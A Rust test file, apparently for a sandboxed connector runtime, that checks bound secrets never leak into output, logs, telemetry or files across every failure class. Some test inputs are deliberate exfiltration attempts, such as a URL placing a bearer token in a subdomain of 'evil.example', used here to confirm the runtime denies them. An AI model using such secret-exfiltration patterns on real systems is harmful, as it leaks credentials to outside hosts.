//! The canary: secrets of every kind are bound, every class of failure happens, and none of them is written anywhere.
//!
//! The real command line at its most verbose, a guest that leaks on purpose, services that echo their input.
//! Searched are: standard output, standard error with every log line, every span that a collector receives, and
//! every file of the home and the temporary directory, for every secret in every form of `grep`.

mod fixture;
mod grep;

use std::fs;

use cofferdam::FailureClass;
use serde_json::{Value, json};

use fixture::{CanaryHome, NET, SECRETS, clean, name};

/// A call that fails, as which code.
type Row = (&'static str, &'static str, Value, Vec<&'static str>, &'static str);

/// At least one way to each class. A new class does not compile until it has one.
fn rows(class: FailureClass, canary: &CanaryHome) -> Vec<Row> {
    let url = |path: &str| canary.upstream.url(path);
    let fetch = |path: &str| json!({"url": url(path)});
    let bearer = SECRETS[0].1;
    match class {
        FailureClass::CapabilityDenied => vec![
            (
                "probe",
                "swallow_denial",
                json!({"url": "http://elsewhere.example/"}),
                vec![],
                "host_not_granted",
            ),
            (
                "probe",
                "swallow_denial",
                json!({"url": format!("http://{bearer}.evil.example/")}),
                vec![],
                "secret_in_request",
            ),
            ("probe", "fetch", fetch(&format!("/text/{bearer}")), vec![], "secret_in_request"),
            (
                "probe",
                "post",
                json!({"url": url("/echo"), "body": format!("a {bearer} b")}),
                vec![],
                "secret_in_request",
            ),
            ("probe", "fetch", fetch("/echo"), vec![], "secret_reflected"),
            ("probe", "swallow_denial", fetch("/echo"), vec![], "secret_reflected"),
            ("basic", "fetch", fetch("/echo"), vec![], "secret_reflected"),
            ("oauth", "fetch", fetch("/echo"), vec![], "secret_reflected"),
            ("aws", "fetch", fetch("/echo"), vec![], "secret_reflected"),
            (
                "probe",
                "fail",
                json!({"kind": "failed", "message": bearer, "detail": bearer}),
                vec![],
                "secret_reflected",
            ),
        ],
        FailureClass::BindingRequired => vec![("unbound", "fetch", fetch("/text/a"), vec![], "")],
        FailureClass::BindingFailed => vec![("refused", "fetch", fetch("/text/a"), vec![], "")],
        FailureClass::ResourceLimitExceeded => vec![
            ("probe", "spin", json!({}), vec!["--fuel", "1000000"], ""),
            ("probe", "sleep", json!({"ms": 60_000}), vec!["--timeout", "100ms"], ""),
            ("probe", "fetch", fetch("/hang"), vec!["--timeout", "300ms"], ""),
            ("probe", "fetch", fetch("/bytes/11000000"), vec![], ""),
            ("probe", "fetch", fetch("/fields/50?bytes=4000"), vec![], ""),
            ("probe", "eat_memory", json!({}), vec!["--memory", "4MiB"], ""),
        ],
        FailureClass::ConnectorRuntimeError => vec![
            ("probe", "panic", json!({"message": format!("a {bearer} b")}), vec![], "trap"),
            ("probe", "panic", json!({"message": format!("{bearer}{}", "x".repeat(1980))}), vec![], "trap"),
            (
                "probe",
                "fail",
                json!({"kind": "failed", "message": "m", "detail": format!("d {bearer}")}),
                vec![],
                "op_failed",
            ),
            ("probe", "fail", json!({"kind": "invalid_input", "message": "m"}), vec![], "input_invalid"),
            ("probe", "exit", json!({"code": 1}), vec![], "exit"),
        ],
        FailureClass::NetworkError => vec![
            ("probe", "fetch", fetch("/drop"), vec![], ""),
            ("probe", "fetch", fetch("/early-close"), vec![], ""),
            ("oauth", "fetch", fetch("/drop"), vec![], ""),
            ("aws", "fetch", fetch("/drop"), vec![], ""),
            // Attempted twice: a retry prints its reason.
            (
                "probe",
                "fetch_many",
                json!({"url": canary.upstream.url("/drop/again"), "times": 1}),
                vec!["--timeout", "2s"],
                "",
            ),
            (
                "probe",
                "fetch",
                json!({"url": format!("http://localhost:{}/", canary.closed_port)}),
                vec![],
                "",
            ),
        ],
        FailureClass::ExternalApiError => ["probe", "basic", "oauth", "aws"]
            .into_iter()
            .flat_map(|connector| {
                ["/status/401", "/status/500", "/status/429?retry_after=1"]
                    .map(|path| (connector, "fetch", fetch(path), vec![], ""))
            })
            .collect(),
        FailureClass::HashMismatch => {
            let package = canary.package("flipped", "");
            crate::shared_host::run(canary.home.install(&package, &canary.signer)).unwrap();
            let file = canary.installed(&package);
            let mut bytes = fs::read(&file).unwrap();
            let last = bytes.len() - 1;
            bytes[last] ^= 1;
            fs::remove_file(&file).unwrap();
            fs::write(&file, bytes).unwrap();
            vec![("flipped", "fetch", fetch("/text/a"), vec![], "")]
        }
        FailureClass::SignatureFailure => {
            canary.home.revoke(&canary.signer.public());
            vec![("probe", "fetch", fetch("/text/a"), vec![], "")]
        }
    }
}

#[test]
fn no_secret_is_written_anywhere() {
    let canary = CanaryHome::new();
    // The control: the secrets do arrive where they belong, and the calls succeed.
    for connector in ["probe", "basic", "oauth", "aws"] {
        let path = format!("/bytes/{}", 10 + connector.len());
        assert_eq!(canary.call(connector, "fetch", &json!({"url": canary.upstream.url(&path)}), &[]), None);
        let sent = format!("{:?}", canary.upstream.seen(&path));
        let carried: &[usize] = match connector {
            "probe" => &[0, 1],
            "basic" => &[],
            "oauth" => &[6],
            _ => &[9],
        };
        carried.iter().for_each(|number| assert!(sent.contains(SECRETS[*number].1), "{connector}: {sent}"));
        assert!(!NET.caught(sent.as_bytes()).is_empty(), "{sent}");
    }
    let sent = format!("{:?}", canary.upstream.seen("/bytes/15"));
    assert!(sent.contains("api_key=canary%2Fquery%2B9sRd3Pf6Gj%3Dk"), "{sent}");

    // Other commands that show bindings, or could.
    for args in [
        &["binding", "list", "--format", "json"][..],
        &["binding", "inspect", "bearer/shop"],
        &["binding", "inspect", "oauth2/mail"],
        &["binding", "set", "bearer/shop", "--stdin"],
        &["binding", "revoke", "bearer/nobody", "--yes"],
        &["inspect", &name("probe")],
        &["list"],
        &["why", &name("probe"), "localhost:1"],
        &["call", &name("probe"), "fetch", r#"{"url": 1}"#],
        &["call", &name("probe"), "log_flood", r#"{"lines": 3, "length": 100}"#],
        &["call", &name("probe"), "call_info", "{}"],
    ] {
        let _ = canary.run(args);
    }
    for class in FailureClass::ALL {
        let rows = rows(*class, &canary);
        assert!(!rows.is_empty(), "{class:?} has no row");
        for (connector, op, args, more, code) in rows {
            let came = canary.call(connector, op, &args, &more);
            let Some((came, came_code)) = came else { panic!("{connector} {op} {args} succeeded") };
            assert_eq!(came, class.name(), "{connector} {op} {args}: {came_code}");
            assert!(code.is_empty() || code == came_code, "{connector} {op} {args}: {came_code}");
        }
    }
    let sent = canary.look_at_spans();
    assert!(sent > 40, "{sent} commands sent spans");
    let files = canary.look_at_files();
    assert!(files > 10 && canary.home.path().join("vault").exists(), "{files} files");
    // The audit log is among them, and contains the arguments that had secrets.
    let record: Vec<u8> =
        canary.home.segments().into_iter().flat_map(|segment| fs::read(segment).unwrap()).collect();
    let says = |words: &str| record.windows(words.len()).any(|window| window == words.as_bytes());
    assert!(says(".evil.example/"), "the record shows no arguments");
    assert!(says("<ref:bearer/shop"), "the record does not say whose secret stood there");
}

/// The control of the search itself: planted secrets are found, in each form separately.
#[test]
fn the_canary_search_finds_planted_secrets() {
    for (number, (name, secret)) in SECRETS.into_iter().enumerate() {
        for (form, bytes) in grep::forms(secret) {
            let planted = [b"before ", bytes.as_slice(), b" after"].concat();
            assert!(NET.caught(&planted).contains(&&(number, form.clone())), "{name} as {form}");
            assert!(std::panic::catch_unwind(|| clean("a plant", &planted)).is_err(), "{name} as {form}");
        }
    }
    clean("nothing", b"nothing of any");
}
